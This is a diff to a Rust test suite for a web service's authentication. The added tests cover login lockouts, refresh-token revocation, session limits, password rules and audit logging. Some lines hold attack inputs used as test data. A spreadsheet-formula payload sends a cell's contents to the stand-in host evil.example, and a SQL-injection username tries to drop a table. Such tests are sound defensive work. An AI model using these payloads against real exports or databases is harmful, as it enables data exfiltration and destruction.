@@ -10,7 +10,9 @@ use diesel::{QueryableByName, RunQueryDsl};
 use serde_json::{json, Value};
 use shuangbai::db::Manager;
 
-use crate::helpers::{Resp, TestApp, ADMIN, PASSWORD};
+use crate::helpers::{
+    captured_logs, client_from, fresh_database, settings_for, Resp, TestApp, ADMIN, PASSWORD,
+};
 
 #[derive(QueryableByName)]
 struct Count {
@@ -110,6 +112,58 @@ async fn county(app: &TestApp, code: &str, name: &str) -> i64 {
     .body["id"]
         .as_i64()
         .expect("id")
+}
+
+/// The password grant, form-encoded, from a client address of the caller's choosing.
+async fn login_from(app: &TestApp, ip: [u8; 4], username: &str, password: &str) -> Resp {
+    let form = format!(
+        "grant_type=password&username={username}&password={}",
+        password.replace(' ', "+")
+    );
+    let req = client_from(ip)
+        .post(app.url("/api/v1/auth/token"))
+        .insert_header(("content-type", "application/x-www-form-urlencoded"));
+    app.send(req, Some(form.into_bytes())).await
+}
+
+async fn refresh_from(app: &TestApp, ip: [u8; 4], token: &str) -> Resp {
+    let req = client_from(ip)
+        .post(app.url("/api/v1/auth/token"))
+        .insert_header(("content-type", "application/x-www-form-urlencoded"));
+    app.send(
+        req,
+        Some(format!("grant_type=refresh_token&refresh_token={token}").into_bytes()),
+    )
+    .await
+}
+
+fn text(r: &Resp, field: &str) -> String {
+    r.body[field]
+        .as_str()
+        .unwrap_or_else(|| panic!("{field} in {}", r.body))
+        .to_string()
+}
+
+/// The same app on a fresh database of the same backend, with settings adjusted.
+async fn spawn_with(
+    app: &TestApp,
+    adjust: impl FnOnce(&mut shuangbai::config::Settings),
+) -> TestApp {
+    let (url, guard) = fresh_database(app.backend).expect("a database");
+    TestApp::spawn_on(app.backend, url, guard, |u| {
+        let mut s = settings_for(u);
+        adjust(&mut s);
+        s
+    })
+    .await
+}
+
+/// Distinct client addresses per backend, so the two runs of a test never share one.
+fn address(app: &TestApp, last: u8) -> [u8; 4] {
+    match app.backend {
+        crate::helpers::Backend::Sqlite => [127, 0, 10, last],
+        crate::helpers::Backend::Postgres => [127, 0, 20, last],
+    }
 }
 
 const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&C6,"详情")"#;
@@ -276,5 +330,188 @@ on_both_backends! {
         let replayed = keyed(&app, &admin, "/api/v1/%74owns", "town-key", Body::Json(&town)).await.expect(201);
         assert_eq!(replayed.header("idempotent-replayed").as_deref(), Some("true"));
         assert_eq!(count(&app, "SELECT count(*) AS n FROM idempotency_keys"), 1);
+    }
+}
+
+on_both_backends! {
+    async fn a_username_that_breaks_the_rule_is_refused_before_anything_is_stored(app: TestApp) {
+        let huge = "a".repeat(1_000_000);
+        for name in [huge.as_str(), "Robert'); DROP TABLE users;--", "李伟", "ab"] {
+            let r = app.login(name, "wrong password!!").await.expect(400);
+            assert_eq!(r.body["error"], "invalid_request", "{}", r.body);
+        }
+        let r = app.login(ADMIN, &"p".repeat(257)).await.expect(400);
+        assert_eq!(r.body["error"], "invalid_request");
+        assert_eq!(count(&app, "SELECT count(*) AS n FROM login_failures"), 0, "nothing stored");
+
+        // A failure is stored by a hash of the name, and old ones are deleted as new ones come.
+        diesel::sql_query("INSERT INTO login_failures (username_hash, address, failed_at) VALUES ('old', '', '2020-01-01 00:00:00')")
+            .execute(&mut *Manager::new(app.database_url.clone(), "public").connect().expect("connect"))
+            .expect("insert an old failure");
+        app.login("Nobody.Here", "wrong password!!").await.expect(400);
+        let hash = shuangbai::auth::hash_secret("nobody.here");
+        assert_eq!(count(&app, &format!("SELECT count(*) AS n FROM login_failures WHERE username_hash = '{hash}' AND address = '127.0.0.1'")), 1);
+        assert_eq!(count(&app, "SELECT count(*) AS n FROM login_failures"), 1, "the old row is gone");
+        assert_eq!(count(&app, "SELECT count(*) AS n FROM login_failures WHERE username_hash LIKE '%nobody%'"), 0);
+    }
+
+    async fn the_right_password_from_another_address_gets_in_during_a_lock_out(app: TestApp) {
+        let attacker = address(&app, 1);
+        for _ in 0..5 {
+            login_from(&app, attacker, ADMIN, "wrong password!!").await.expect(400);
+        }
+        login_from(&app, attacker, ADMIN, PASSWORD).await.expect_problem(429);
+        let admin = login_from(&app, address(&app, 2), ADMIN, PASSWORD).await.expect(200);
+        app.get_as(&text(&admin, "access_token"), "/api/v1/me").await.expect(200);
+        login_from(&app, attacker, ADMIN, PASSWORD).await.expect_problem(429);
+
+        // From every address together the bar is ten times higher, then the name is refused.
+        let strict = spawn_with(&app, |s| s.login_max_failures = 2).await;
+        for i in 0..10 {
+            for _ in 0..2 {
+                login_from(&strict, address(&app, 100 + i), ADMIN, "wrong password!!").await.expect(400);
+            }
+        }
+        let r = login_from(&strict, address(&app, 200), ADMIN, PASSWORD).await.expect_problem(429);
+        assert!(r.header("retry-after").is_some());
+    }
+
+    async fn logins_in_parallel_do_not_hold_up_writes(app: TestApp) {
+        let started = std::time::Instant::now();
+        let logins = futures_util::future::join_all((0..24).map(|_| app.login(ADMIN, PASSWORD)));
+        let write = async {
+            actix_web::rt::time::sleep(std::time::Duration::from_millis(20)).await;
+            let at = std::time::Instant::now();
+            app.post("/api/v1/counties", &json!({"division_code": "445302", "name": "云城区", "kind": "district"}))
+                .await
+                .expect(201);
+            at.elapsed()
+        };
+        let (answers, write_took) = futures_util::future::join(logins, write).await;
+        let storm = started.elapsed();
+        for r in answers {
+            r.expect(200);
+        }
+        assert!(
+            write_took * 2 < storm,
+            "a write during 24 logins took {write_took:?}, the logins {storm:?}: it waited for them"
+        );
+    }
+
+    async fn an_access_token_is_refused_once_its_session_is_revoked(app: TestApp) {
+        let first = app.login(ADMIN, PASSWORD).await.expect(200);
+        let second = app.login(ADMIN, PASSWORD).await.expect(200);
+        let access = text(&first, "access_token");
+        app.get_as(&access, "/api/v1/me").await.expect(200);
+        app.post_as(&access, "/api/v1/auth/revoke", &json!({"token": text(&first, "refresh_token")})).await.expect(200);
+        app.get_as(&access, "/api/v1/me").await.expect_problem(401);
+        refresh_from(&app, address(&app, 1), &text(&first, "refresh_token")).await.expect(400);
+        // Another session of the same user is not affected.
+        app.get_as(&text(&second, "access_token"), "/api/v1/me").await.expect(200);
+
+        // A reused refresh token ends its session's access tokens too, and says so in the log.
+        captured_logs();
+        let from = address(&app, 7);
+        let rotated = refresh_from(&app, from, &text(&second, "refresh_token")).await.expect(200);
+        let newest = text(&rotated, "access_token");
+        app.get_as(&newest, "/api/v1/me").await.expect(200);
+        let reuse = refresh_from(&app, from, &text(&second, "refresh_token")).await.expect(400);
+        assert_eq!(reuse.body["error"], "invalid_grant");
+        app.get_as(&newest, "/api/v1/me").await.expect_problem(401);
+        app.get_as(&text(&second, "access_token"), "/api/v1/me").await.expect_problem(401);
+        let from = format!("{}.{}.{}.{}", from[0], from[1], from[2], from[3]);
+        assert!(
+            captured_logs().iter().any(|l| l.starts_with("WARN refresh token reuse") && l.contains(&from)),
+            "a warning names the reuse and its address"
+        );
+    }
+
+    async fn a_session_ends_at_its_absolute_limit_however_often_it_is_refreshed(app: TestApp) {
+        use shuangbai::db::accounts::SessionRow;
+        use shuangbai::db::schema::{refresh_tokens, sessions};
+        use diesel::{ExpressionMethods, QueryDsl, SelectableHelper};
+        let short = spawn_with(&app, |s| s.session_max_days = 1).await;
+        let login = short.login(ADMIN, PASSWORD).await.expect(200);
+        let rotated = refresh_from(&short, address(&app, 1), &text(&login, "refresh_token")).await.expect(200);
+        let mut conn = Manager::new(short.database_url.clone(), "public").connect().expect("connect");
+        let all: Vec<SessionRow> = sessions::table
+            .select(SessionRow::as_select())
+            .load(&mut *conn)
+            .expect("sessions");
+        assert_eq!(all.len(), 2, "the app's first login and this one");
+        for session in all {
+            assert_eq!(session.expires_at - session.started_at, chrono::Duration::days(1));
+            let latest: chrono::NaiveDateTime = refresh_tokens::table
+                .filter(refresh_tokens::family.eq(&session.id))
+                .select(diesel::dsl::max(refresh_tokens::expires_at))
+                .first::<Option<chrono::NaiveDateTime>>(&mut *conn)
+                .expect("refresh tokens")
+                .expect("some");
+            assert!(latest <= session.expires_at, "a refresh token never outlives its session");
+        }
+        // The day passes.
+        let ended = shuangbai::routes::common::now() - chrono::Duration::seconds(1);
+        diesel::update(sessions::table).set(sessions::expires_at.eq(ended)).execute(&mut *conn).expect("end");
+        let r = refresh_from(&short, address(&app, 1), &text(&rotated, "refresh_token")).await.expect(400);
+        assert_eq!(r.body["error"], "invalid_grant");
+        short.get_as(&text(&rotated, "access_token"), "/api/v1/me").await.expect_problem(401);
+        // A new login starts a new session.
+        let again = short.login(ADMIN, PASSWORD).await.expect(200);
+        short.get_as(&text(&again, "access_token"), "/api/v1/me").await.expect(200);
+    }
+
+    async fn common_passwords_are_refused(app: TestApp) {
+        for password in ["Password1234", "qwertyuiop123", "woaini1314520", "1qaz2wsx3edc"] {
+            let r = app
+                .post("/api/v1/users", &json!({"username": "wang.fang", "display_name": "王芳", "role": "viewer", "password": password}))
+                .await
+                .expect_problem(422);
+            assert_eq!(r.error_fields(), vec!["password"], "{password}");
+        }
+        let created = app
+            .post("/api/v1/users", &json!({"username": "wang.fang", "display_name": "王芳", "role": "viewer", "password": PASSWORD}))
+            .await
+            .expect(201);
+        let path = format!("/api/v1/users/{}", created.body["id"]);
+        app.patch(&path, Some("\"1\""), &json!({"password": "administrator"})).await.expect_problem(422);
+    }
+
+    async fn the_command_line_leaves_audit_events(app: TestApp) {
+        let url = match &app.database_url {
+            shuangbai::db::DatabaseUrl::Postgres(url) => url.clone(),
+            shuangbai::db::DatabaseUrl::Sqlite(path) => format!("sqlite://{}", path.display()),
+        };
+        let run = |args: &[&str], password: Option<&str>| {
+            let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_shuangbai"));
+            cmd.args(args)
+                .env("DATABASE_URL", &url)
+                .env("SHUANGBAI_JWT_SECRET", "a-secret-for-the-command-line-that-is-long")
+                .env("USER", "ops.li")
+                .env_remove("SHUANGBAI_PASSWORD")
+                .env("RUST_LOG", "warn");
+            if let Some(pw) = password {
+                cmd.env("SHUANGBAI_PASSWORD", pw);
+            }
+            let out = cmd.output().expect("runs");
+            (out.status.success(), String::from_utf8_lossy(&out.stderr).to_string())
+        };
+        let (ok, err) = run(&["user", "add", "cli.made", "--role", "viewer"], Some("password1234"));
+        assert!(!ok && err.contains("common"), "{err}");
+        let (ok, err) = run(&["user", "add", "cli.made", "--role", "viewer"], Some(PASSWORD));
+        assert!(ok, "{err}");
+        let (ok, err) = run(&["user", "set-password", "cli.made"], Some("another long passphrase"));
+        assert!(ok, "{err}");
+        let (ok, err) = run(&["user", "deactivate", "cli.made"], None);
+        assert!(ok, "{err}");
+        let events = app.get("/api/v1/audit-events?entity=user&actor=cli:ops.li").await.expect(200).body;
+        let mut actions: Vec<&str> = events["items"].as_array().expect("items").iter().map(|e| e["action"].as_str().expect("action")).collect();
+        actions.reverse();
+        assert_eq!(actions, vec!["create", "set_password", "deactivate"]);
+        let user_id = &events["items"][0]["entity_id"];
+        assert!(events["items"].as_array().expect("items").iter().all(|e| &e["entity_id"] == user_id));
+        assert_eq!(events["items"][0]["after"]["active"], false);
+        assert_eq!(events["items"][0]["before"]["active"], true);
+        let text = events.to_string();
+        assert!(!text.contains("argon2") && !text.contains("password_hash") && !text.contains("another long"));
     }
 }
